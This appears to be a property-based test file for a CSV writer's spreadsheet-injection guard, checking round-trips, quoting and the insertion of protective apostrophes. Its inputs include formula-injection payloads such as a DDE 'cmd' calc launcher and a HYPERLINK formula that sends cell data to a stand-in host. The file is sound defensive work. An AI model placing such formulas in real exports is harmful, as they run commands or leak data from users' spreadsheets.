import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvChunks } from '../../src/domain/csv.js';
import type { CsvFormat } from '../../src/domain/csv.js';
import { canRun, readCsv, spreadsheetCells } from '../support/csv.js';

const write = (rows: readonly (readonly string[])[], format: CsvFormat = {}): string =>
  [...csvChunks(rows, { bom: false, ...format })].join('');

/** One cell, written and read again. */
const through = (cell: string, format: CsvFormat = {}): string =>
  readCsv(write([[cell]], format), ',')[0]?.[0] ?? 'nothing was read';

const DELIMITERS = [',', ';', '\t'] as const;
/** Everything a spreadsheet somewhere splits at. */
const SEPARATORS = [...DELIMITERS, '|'] as const;

const PIECES = [
  ...[
    '"',
    '""',
    "'",
    ',',
    ';',
    '\t',
    '|',
    '\r',
    '\n',
    '\r\n',
    ' ',
    '\u00A0',
    '\u3000',
    '\uFEFF',
    '\u200B',
    '\u2060',
    '\0',
  ],
  ...['=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', '\uFE66', '\uFE62', '\uFE63', '\uFE6B', '\u2212'],
  ...['a', 'Z', '0', '1+1', '+15551234567', 'Épargne', '\u{1F4DE}', '\uD83D', '\uDCDE', '\u202E', '', 'cmd|x!A0'],
] as const;

const cell = fc.oneof(
  fc.array(fc.constantFrom(...PIECES), { maxLength: 6 }).map((pieces) => pieces.join('')),
  fc.string({ unit: 'binary', maxLength: 8 }),
  fc.string({ maxLength: 8 }),
);

const table = fc
  .integer({ min: 1, max: 4 })
  .chain((width) => fc.array(fc.array(cell, { minLength: width, maxLength: width }), { maxLength: 5 }));

/** A text without the apostrophes at every place where writing could have put one. */
function withoutGuard(read: string): string {
  return read.replace(/(^|[,;|\t\r\n])'+/g, '$1');
}

describe('CSV for programs', () => {
  it('is read as it was written', () => {
    fc.assert(
      fc.property(table, fc.constantFrom(...DELIMITERS), (rows, delimiter) => {
        expect(readCsv(write(rows, { profile: 'data', delimiter }), delimiter)).toEqual(rows);
      }),
      { numRuns: 2000 },
    );
  });
});

describe('CSV for spreadsheets', () => {
  it('is read as it was written, but for apostrophes before what could run', () => {
    fc.assert(
      fc.property(table, fc.constantFrom(...DELIMITERS), (rows, delimiter) => {
        const read = readCsv(write(rows, { delimiter }), delimiter);
        expect(read.map((cells) => cells.map(withoutGuard))).toEqual(rows.map((cells) => cells.map(withoutGuard)));
      }),
      { numRuns: 2000 },
    );
  });

  it('writes no two texts alike, so that every text can be had back', () => {
    const alphabet = ["'", '=', ';', '\n', ' ', '"', 'a'];
    let texts = [''];
    const all = [...texts];
    for (let length = 1; length <= 5; length += 1) {
      texts = texts.flatMap((text) => alphabet.map((character) => text + character));
      all.push(...texts);
    }
    expect(new Set(all.map((text) => through(text))).size).toBe(all.length);
  });

  it('has no cell that could run, whichever separator the spreadsheet splits at', () => {
    fc.assert(
      fc.property(
        table,
        fc.constantFrom(...DELIMITERS),
        fc.constantFrom(...SEPARATORS),
        (rows, delimiter, separator) => {
          expect(spreadsheetCells(write(rows, { delimiter }), separator).filter(canRun)).toEqual([]);
        },
      ),
      { numRuns: 5000 },
    );
  });

  it.each([
    ...['=1+1', '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '\0=1+1', '\uFEFF=1+1', '\u200B=1+1'],
    ...['\uFF1D1+1', '\uFF0B1+1', '\uFF0D1+1', '\uFF20SUM(1)', '\u22121+1', '\tx', '\rx', '\0x', '"=1+1"'],
    ...["=cmd|'/C calc'!A0", '=HYPERLINK("http://example.test/?"&A1,"x")', '=IMPORTXML("http://example.test","//a")'],
    ...['+15551234567+1', '+1555 1234567', '+0155512345', '+1', '+\uFF11\uFF12\uFF13\uFF14\uFF15', '+1234567890123456'],
  ])('puts an apostrophe before %j', (attack) => {
    expect(through(attack).startsWith("'")).toBe(true);
    expect(withoutGuard(through(attack))).toBe(withoutGuard(attack));
  });

  it.each([
    ['x;=1+1', "x;'=1+1"],
    ['x;=1+1;y', "x;'=1+1;y"],
    ['x, @SUM(1)', "x,' @SUM(1)"],
    ['x\t-1', "x\t'-1"],
    ['x\n+1', "x\n'+1"],
    ['x\r\n=1', "x\r\n'=1"],
    ['x;"=1+1&";y', `x;'"=1+1&";y`],
  ])('puts an apostrophe into %j where another separator would begin a cell', (attack, guarded) => {
    expect(through(attack)).toBe(guarded);
  });

  it.each(
    [
      ...[
        '+15551234567',
        '+33604120405',
        '5510',
        '-',
        'a-b',
        'a=b',
        'Épargne',
        'Smith, Ann',
        'a;b',
        "O'Neil",
        "'90s",
        '',
      ],
      ...['2026-03-09T09:00:00.000Z', '09.03.26, 14:30:00', '\u{1F4DE} 5510', 'a "b" c', 'user@example.test', 'a\nb'],
    ].filter((text) => text !== '-'),
  )('leaves %j as it is', (text) => {
    expect(through(text)).toBe(text);
  });

  it('is what a profile that does not exist gets', () => {
    expect(through('=1', { profile: 'Spreadsheet' as 'spreadsheet' })).toBe("'=1");
  });

  it('takes no more than in proportion for texts made to be slow', () => {
    for (const unit of [';', '\n', '\t', ' ', "'", '"', '; ', ';"', '\u200B', 'a,']) {
      const text = unit.repeat(200_000);
      expect(withoutGuard(through(`${text}=1`)).endsWith('=1')).toBe(true);
    }
  });
});

describe('the form of CSV', () => {
  it('begins with a byte order mark for spreadsheets alone, unless told otherwise', () => {
    const begins = (format: CsvFormat): boolean => [...csvChunks([['a']], format)].join('').startsWith('\uFEFF"a"');
    expect(begins({})).toBe(true);
    expect(begins({ profile: 'data' })).toBe(false);
    expect(begins({ profile: 'data', bom: true })).toBe(true);
    expect(begins({ bom: false })).toBe(false);
  });

  it('puts every cell into quotation marks and ends every row with CR LF', () => {
    expect(
      write(
        [
          ['a', ''],
          ['b"c', 'd'],
        ],
        { delimiter: ';' },
      ),
    ).toBe('"a";""\r\n"b""c";"d"\r\n');
  });

  it('comes in chunks of whole rows, made when they are asked for', () => {
    let made = 0;
    function* rows(): Generator<readonly string[]> {
      for (; made < 10_000; made += 1) yield [`row ${String(made)}`, '\u{1F4DE}'.repeat(10)];
    }
    const chunks = csvChunks(rows(), { bom: false });
    const first = chunks.next().value as string;
    expect(made).toBeLessThan(3000);
    const all = [first, ...chunks];
    expect(all.length).toBeGreaterThan(3);
    for (const chunk of all) expect(readCsv(chunk, ',').length).toBeGreaterThan(0);
    expect(readCsv(all.join(''), ',').length).toBe(10_000);
  });

  it('is empty without rows, but for the mark', () => {
    expect([...csvChunks([], { bom: false })]).toEqual([]);
    expect([...csvChunks([])]).toEqual(['\uFEFF']);
  });
});
